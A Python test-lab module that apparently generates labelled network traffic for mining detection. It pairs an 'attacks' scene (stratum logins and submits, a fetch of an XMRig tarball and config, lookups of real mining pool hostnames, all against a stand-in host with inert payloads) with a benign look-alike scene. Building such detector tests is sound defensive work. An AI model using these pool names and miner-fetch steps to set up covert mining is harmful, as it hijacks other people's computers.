"""Mining: stratum dialects against a stand-in pool, the miner's HTTP, pool names in DNS (dnsmasq) and TLS (openssl)."""

from .common import begin
from .lab import sh
from .scenes import scene
from .web import curl, json, reply, site

NEEDS = dict(dnsmasq="dnsmasq", dig="dnsutils", openssl="openssl")
POOLS = ["pool.supportxmr.com", "gulf.moneroocean.stream", "xmr-eu1.nanopool.org", "eth.2miners.com", "pool.hashvault.pro", "mine.c3pool.com", "stratum.eu.nicehash.com", "rx.unmineable.com", "de.monero.herominers.com"]
BLOB = "1010" + "ab" * 74


def world(lab):
    """The outside: a resolver that knows every name, and a TLS server."""
    dns, out = lab.host("dns", 53), lab.host("pool", 99).also("203.0.113.50")
    dns.start("dnsmasq", "-k", "-h", "-R", "-u", "root", "--bind-interfaces", "--pid-file=" + lab.path("dnsmasq.pid"), "--address=/#/203.0.113.50", port=53, udp=True)
    sh("openssl", "req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:P-256", "-nodes", "-days", "30", "-subj", "/CN=outside.example", "-keyout", lab.path("k.pem"), "-out", lab.path("c.pem"))
    out.start("openssl", "s_server", "-accept", "443", "-cert", lab.path("c.pem"), "-key", lab.path("k.pem"), "-quiet", "-www", port=443)
    return dns, out


def lines(*answers):
    def handle(c):
        for a in answers:
            if not c.recv(65536):
                return
            c.sendall(a.encode())
        c.recv(65536)
    return handle


@scene("attacks-mining", **NEEDS)
def attacks(lab):
    """stratum of Bitcoin, Monero and Ethereum pools, XMRig fetched, configured and reporting, pool names asked and reached over TLS"""
    node = lab.host("node", 10)
    dns, out = world(lab)
    site(out, 80, [(r"config.json", json('{"autosave":true,"donate-level":1,"cpu":true,"pools":[{"url":"pool.supportxmr.com:443","user":"inert"}]}')), (r"", reply(200, b"\x1f\x8binert", "application/gzip"))])
    out.listen(3333, lines('{"id":1,"result":[[["mining.notify","x"]],"08000002",4],"error":null}\n', '{"id":2,"result":true,"error":null}\n{"id":null,"method":"mining.notify","params":["bf","4d16b6f8","0100","ffff",[],"00000002","1c2ac4af","504e86b9",true]}\n', '{"id":4,"result":true,"error":null}\n'))
    out.listen(4444, lines('{"id":1,"jsonrpc":"2.0","error":null,"result":{"id":"w","job":{"blob":"%s","job_id":"q1","target":"b88d0600","algo":"rx/0","height":2700000},"status":"OK"}}\n' % BLOB, '{"id":2,"jsonrpc":"2.0","error":null,"result":{"status":"OK"}}\n'))
    out.listen(8008, lines('{"id":1,"jsonrpc":"2.0","result":true}\n'))
    begin(lab)
    ip = "203.0.113.50"
    node.talk(ip, 3333, b'{"id": 1, "method": "mining.subscribe", "params": ["cpuminer/2.5.1"]}\n', b'{"id": 2, "method": "mining.authorize", "params": ["inert.worker1", "x"]}\n', b'{"params": ["inert.worker1", "bf", "00000001", "504e86ed", "b2957c02"], "id": 4, "method": "mining.submit"}\n')
    node.talk(ip, 4444, b'{"id":1,"jsonrpc":"2.0","method":"login","params":{"login":"4inert","pass":"x","agent":"XMRig/6.21.0 (Linux x86_64) libuv/1.44.2 gcc/12.2.0","algo":["rx/0"]}}\n',
              b'{"id":2,"jsonrpc":"2.0","method":"submit","params":{"id":"w","job_id":"q1","nonce":"d0030040","result":"' + b"e1" * 32 + b'"}}\n')
    node.talk(ip, 8008, b'{"id":1,"jsonrpc":"2.0","method":"eth_submitLogin","worker":"w","params":["0xinert","x"]}\n')
    curl(node, f"http://{ip}/xmrig-6.21.0-linux-static-x64.tar.gz")
    curl(node, f"http://{ip}/config.json")
    curl(node, f"http://{ip}/client/setClientStatus?clientId=node", '{"client_status":{"hashrate_short":100}}', headers=["Content-Type: application/json"], agent="XMRig/6.21.0 (Linux x86_64)")
    for name in POOLS:
        node.run("dig", "+tries=1", "+time=2", "+noedns", f"@{dns.ip}", name)
    for name in POOLS:
        curl(node, f"https://{name}/", more=["-k", "--resolve", f"{name}:443:{ip}"])


@scene("benign-mining", **NEEDS)
def benign(lab):
    """JSON-RPC of other services over the same kind of connection, names that resemble pools, an article about the miner"""
    node = lab.host("node", 10)
    dns, out = world(lab)
    site(out, 80, [(r"config.json", json('{"donate-level":"info page","pool":4}')), (r"", reply(200, "<html>about XMRig</html>"))])
    out.listen(8545, lines('{"jsonrpc":"2.0","id":1,"result":"0x10d4f"}\n', '{"jsonrpc":"2.0","id":2,"result":{"token":"t"}}\n', '{"jsonrpc":"2.0","id":3,"result":{"blob":"ab12","target":"disk","job_id":"7"}}\n', '{"jsonrpc":"2.0","id":4,"result":true}\n', '{"jsonrpc":"2.0","id":5,"result":["mining.notify"]}\n'))
    begin(lab)
    ip = "203.0.113.50"
    node.talk(ip, 8545, b'{"jsonrpc":"2.0","id":1,"method":"eth_blockNumber","params":[]}\n', b'{"jsonrpc":"2.0","id":2,"method":"login","params":{"user":"anna","pass":"x"}}\n', b'{"jsonrpc":"2.0","id":3,"method":"job","params":{"nonce":"d003","result":"short","submit":1}}\n',
              b'{"jsonrpc":"2.0","id":4,"method":"mining.status","params":["mining company"]}\n', b'{"jsonrpc":"2.0","id":5,"method":"help","agent":"tool/1.0 about XMRig"}\n')
    curl(node, f"http://{ip}/config.json")
    curl(node, f"http://{ip}/articles/xmrig-explained/part/2")
    curl(node, f"http://{ip}/", agent="Mozilla/5.0 (X11; Linux x86_64)")
    for name in ("docs.support-xmr.example", "swimming-pool.example.org", "nanopool.example", "notnanopool.org", "2miners.example", "c3.pool.example", "hashvault.example", "nicehash.example", "monero.example"):
        node.run("dig", "+tries=1", "+time=2", "+noedns", f"@{dns.ip}", name)
    for name in ("docs.support-xmr.example", "notnanopool.org", "mac3pool.example", "hashvault.example"):
        curl(node, f"https://{name}/", more=["-k", "--resolve", f"{name}:443:{ip}"])
